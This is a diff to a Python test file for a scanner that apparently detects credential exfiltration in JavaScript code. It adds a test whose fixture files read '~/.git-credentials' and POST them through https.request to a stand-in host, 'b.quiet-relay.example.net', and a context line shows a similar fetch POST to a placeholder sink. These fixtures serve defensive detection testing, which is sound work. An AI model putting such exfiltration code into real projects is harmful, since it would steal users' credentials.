@@ -5,7 +5,7 @@ from __future__ import annotations
 
 from pathlib import Path
 
-from behaviour_files import scan_errors
+from behaviour_files import scan_errors, scan_findings
 
 
 def test_an_esm_constant_spelled_in_char_codes_and_a_default_export_sender(tmp_path: Path) -> None:
@@ -70,3 +70,16 @@ def test_names_passed_on_by_an_index_module_that_re_exports_them(tmp_path: Path)
         "await fetch(`https://${SINK}/gh`, { method: 'POST', body });\n",
     }
     assert ("CREDENTIAL_EXFILTRATION", "app/main.mjs", 4) in scan_errors(tmp_path, files)
+
+
+def test_the_chain_opens_with_the_call_that_handed_the_other_module_its_data(tmp_path: Path) -> None:
+    files = {
+        "lib/beacon.js": "const https = require('https');\nconst fs = require('fs');\n"
+        "module.exports = (file) => {\n  const body = fs.readFileSync(file, 'utf8');\n"
+        "  https.request({ host: 'b.quiet-relay.example.net', method: 'POST' }).end(body);\n};\n",
+        "lib/run.js": "const os = require('os');\nconst beacon = require('./beacon');\n"
+        "beacon(os.homedir() + '/.git-credentials');\n",
+    }
+    findings = scan_findings(tmp_path, files)
+    [error] = [f for f in findings if f.rule == "CREDENTIAL_EXFILTRATION" and f.severity.value == "error"]
+    assert (error.evidence[0].path.removeprefix("s/"), error.evidence[0].line) == ("lib/run.js", 3)
